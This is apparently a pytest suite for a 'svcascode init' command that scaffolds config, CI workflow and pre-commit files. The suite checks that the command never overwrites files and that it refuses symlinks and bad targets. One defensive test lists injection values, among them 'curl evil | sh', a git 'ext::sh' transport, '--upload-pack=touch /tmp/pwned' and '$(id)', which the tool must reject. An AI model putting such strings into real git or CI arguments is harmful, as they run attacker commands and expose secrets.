"""`svcascode init`: a scaffold that `validate` and `check` pass, that never overwrites, and refuses a
hostile target with exit 2."""

from __future__ import annotations

import importlib.metadata
import json
import os
import re
from datetime import date
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner, Result

from svcascode.cli import main
from svcascode.commands import init as init_command
from svcascode.commands.init import scaffold
from git_helpers import Repo, run as run_process

REPO = Path(__file__).parent.parent
LIBRARY = REPO / "svcascode" / "library"
CONTROL_IDS = sorted(p.stem for p in (LIBRARY / "controls").glob("*.yaml"))
SLA = "services/service-levels/example-service-sla.yaml"


def invoke(*args: str) -> Result:
    return CliRunner().invoke(main, list(args), catch_exceptions=False)


@pytest.fixture
def empty(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = tmp_path / "catalogue"
    folder.mkdir()
    monkeypatch.chdir(folder)
    return folder


def test_init_then_check_passes_and_reports_the_library(empty: Path) -> None:
    assert invoke("init").exit_code == 0
    assert invoke("validate").exit_code == 0
    result = invoke("check")
    assert result.exit_code == 0, result.stdout
    assert f"built-in library, {len(CONTROL_IDS)} controls" in result.stdout
    report = json.loads(invoke("check", "--format", "json").stdout)
    assert report["exitCode"] == 0 and report["library"]["controls"] == len(CONTROL_IDS)
    assert len(report["controls"]) == len(CONTROL_IDS)
    assert not [f for f in report["findings"] if f["severity"] not in ("info",)]


def test_init_in_an_empty_git_repository(tmp_path: Path) -> None:
    Repo(tmp_path)
    assert run_process(tmp_path, "init").returncode == 0
    done = run_process(tmp_path, "check", "--format", "json")
    assert done.returncode == 0, done.stdout + done.stderr
    assert len(json.loads(done.stdout)["controls"]) >= 25


def test_without_the_sla_check_fails_with_svc_sla_required(empty: Path) -> None:
    invoke("init")
    (empty / SLA).unlink()
    result = invoke("check", "--format", "json")
    assert result.exit_code == 1
    assert "svc-sla-required" in {f["rule"] for f in json.loads(result.stdout)["findings"] if f["failing"]}


def test_init_writes_every_part_of_the_scaffold(empty: Path) -> None:
    invoke("init", "--dry-run")
    files = scaffold(date.today())
    for path in (".svcascode.yaml", ".github/workflows/svcascode.yml", ".pre-commit-config.yaml",
                 "schemas/svcascode.schema.json", "services/calendars.yaml", SLA):
        assert path in files
    assert "--base" in files[".github/workflows/svcascode.yml"]
    config = files[".svcascode.yaml"]
    assert all(line.startswith("#") or not line.strip() for line in config.splitlines())  # all commented
    for setting in ("roots", "exclude", "cache", "limits", "max_file_bytes", "library", "enabled", "disable"):
        assert f"# {setting}:" in config or f"#   {setting}:" in config
    assert "alwaysOn: true" in files["services/calendars.yaml"] and "weekly:" in files["services/calendars.yaml"]


def test_modelines_point_at_a_schema_that_exists(empty: Path) -> None:
    invoke("init")
    documents = [p for p in empty.rglob("*.yaml") if ".github" not in p.parts and p.name != ".svcascode.yaml"
                 and p.name != ".pre-commit-config.yaml"]
    assert documents
    for document in documents:
        first = document.read_text().splitlines()[0]
        match = re.fullmatch(r"# yaml-language-server: \$schema=(\S+)", first)
        assert match, f"{document}: {first}"
        assert (document.parent / match[1]).resolve().is_file(), f"{document}: {match[1]}"


def test_init_never_overwrites(empty: Path) -> None:
    (empty / ".svcascode.yaml").write_text("cache: false\n")
    first = invoke("init")
    assert first.exit_code == 0
    assert "skipped .svcascode.yaml (exists; not overwritten)" in first.stdout
    assert (empty / ".svcascode.yaml").read_text() == "cache: false\n"
    (empty / SLA).write_text((empty / SLA).read_text() + "# mine\n")
    second = invoke("init")
    assert second.exit_code == 0
    assert "0 file(s) written" in second.stdout and f"skipped {SLA}" in second.stdout
    assert (empty / SLA).read_text().endswith("# mine\n")


def test_dry_run_writes_nothing(empty: Path) -> None:
    result = invoke("init", "--dry-run")
    assert result.exit_code == 0
    assert f"would write {SLA}" in result.stdout
    assert list(empty.iterdir()) == []


def test_init_into_a_new_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    assert invoke("init", "new/catalogue").exit_code == 0
    assert invoke("-C", "new/catalogue", "check").exit_code == 0


def test_a_file_where_the_folder_should_be_is_exit_2(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "taken").write_text("a file\n")
    result = CliRunner().invoke(main, ["init", "taken"])
    assert result.exit_code == 2 and "exists and is not a folder" in result.stderr
    (tmp_path / "inside").mkdir()
    (tmp_path / "inside" / "services").write_text("a file where a folder is needed\n")
    result = CliRunner().invoke(main, ["init", "inside"])
    assert result.exit_code == 2 and "is a file where a folder is needed" in result.stderr
    assert sorted(p.name for p in (tmp_path / "inside").iterdir()) == ["services"]  # nothing half-written


def test_a_symlink_is_exit_2(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "real").mkdir()
    os.symlink(tmp_path / "real", tmp_path / "link")
    result = CliRunner().invoke(main, ["init", "link"])
    assert result.exit_code == 2 and "symbolic link" in result.stderr
    (tmp_path / "target").mkdir()
    (tmp_path / "elsewhere").mkdir()
    os.symlink(tmp_path / "elsewhere", tmp_path / "target" / "services")
    result = CliRunner().invoke(main, ["init", "target"])
    assert result.exit_code == 2 and "symbolic link" in result.stderr
    assert list((tmp_path / "elsewhere").iterdir()) == [] and list((tmp_path / "real").iterdir()) == []


# ---------------------------------------------------------------------------------------------------
# The workflow and pre-commit install svcascode as the README says adopters do


def _tooling(folder: Path) -> tuple[dict[str, Any], dict[str, Any]]:
    workflow = yaml.safe_load((folder / ".github/workflows/svcascode.yml").read_text())
    install = next(s for s in workflow["jobs"]["check"]["steps"] if s.get("name") == "Install svcascode")
    return install, yaml.safe_load((folder / ".pre-commit-config.yaml").read_text())


def test_workflow_and_hooks_come_from_the_repository_named(empty: Path) -> None:
    result = invoke("init", "--repository", "https://github.com/acme/svcascode", "--rev", "v1.2.0")
    assert result.exit_code == 0 and "placeholder" not in result.stdout
    install, precommit = _tooling(empty)
    assert install["env"] == {"SVCASCODE_REPOSITORY": "https://github.com/acme/svcascode", "SVCASCODE_REV": "v1.2.0"}
    assert '"git+$SVCASCODE_REPOSITORY@$SVCASCODE_REV"' in install["run"]
    assert "==" not in install["run"]  # no package index has svcascode
    # the repository's hooks, as the README recommends, not local ones
    [entry] = precommit["repos"]
    assert (entry["repo"], entry["rev"]) == ("https://github.com/acme/svcascode", "v1.2.0")
    hooks = yaml.safe_load((REPO / ".pre-commit-hooks.yaml").read_text())
    assert [h["id"] for h in entry["hooks"]] == [h["id"] for h in hooks] == ["svcascode-validate", "svcascode-check"]


def test_without_a_repository_the_placeholders_are_said(empty: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(init_command, "installed_source", lambda: None)  # installed from a local checkout
    result = invoke("init")
    assert result.exit_code == 0
    assert ("note: .github/workflows/svcascode.yml and .pre-commit-config.yaml install svcascode from "
            "https://github.com/<owner>/svcascode at <tag>, placeholders") in result.stdout
    install, precommit = _tooling(empty)
    assert install["env"]["SVCASCODE_REPOSITORY"] == precommit["repos"][0]["repo"] == \
        "https://github.com/<owner>/svcascode"
    text = (empty / ".github/workflows/svcascode.yml").read_text()
    assert "# Repository and rev: placeholders, to replace with your fork or mirror" in text


def test_by_default_the_repository_svcascode_was_installed_from(empty: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    direct_url = {"url": "https://git.example.com/tools/svcascode.git",
                  "vcs_info": {"vcs": "git", "commit_id": "0123456789abcdef0123456789abcdef01234567",
                               "requested_revision": "v0.1.0"}}

    class Installed:
        def read_text(self, name: str) -> str | None:
            return json.dumps(direct_url) if name == "direct_url.json" else None

    monkeypatch.setattr(importlib.metadata, "distribution", lambda name: Installed())
    assert invoke("init").exit_code == 0
    install, precommit = _tooling(empty)
    assert install["env"] == {"SVCASCODE_REPOSITORY": "https://git.example.com/tools/svcascode.git",
                              "SVCASCODE_REV": "0123456789abcdef0123456789abcdef01234567"}
    assert precommit["repos"][0]["rev"] == "0123456789abcdef0123456789abcdef01234567"
    assert "# Repository and rev: those this svcascode was installed from." in \
        (empty / ".pre-commit-config.yaml").read_text()


@pytest.mark.parametrize("option", [
    ("--repository", "https://example.com/x\" && curl evil | sh #"),
    ("--repository", "https://example.com/${{ secrets.TOKEN }}"),
    ("--repository", "ext::sh -c touch% /tmp/pwned"),
    ("--rev", "--upload-pack=touch /tmp/pwned"),
    ("--rev", "v1 $(id)"),
])
def test_a_source_that_could_run_or_expand_is_refused(empty: Path, option: tuple[str, str]) -> None:
    result = CliRunner().invoke(main, ["init", "--repository", "https://github.com/acme/svcascode", *option])
    assert result.exit_code == 2 and option[0] in result.stderr
    assert list(empty.iterdir()) == []


def test_config_comments_are_true(empty: Path) -> None:
    invoke("init")
    config = (empty / ".svcascode.yaml").read_text()
    assert ".svcascode-cache" not in config  # the cache lives outside the repository
    assert "outside the repository" in config and "~/.cache/svcascode" in config
    readme = (REPO / "README.md").read_text()
    block = readme[readme.index("## Configuration"):].split("```yaml\n", 1)[1].split("```", 1)[0]
    documented = {line.split(":")[0] for line in block.splitlines() if line and not line.startswith(" ")}
    assert documented, "the README's configuration block"
    for setting in documented:  # every top-level setting the README documents, commented with its default
        assert f"# {setting}:" in config, setting
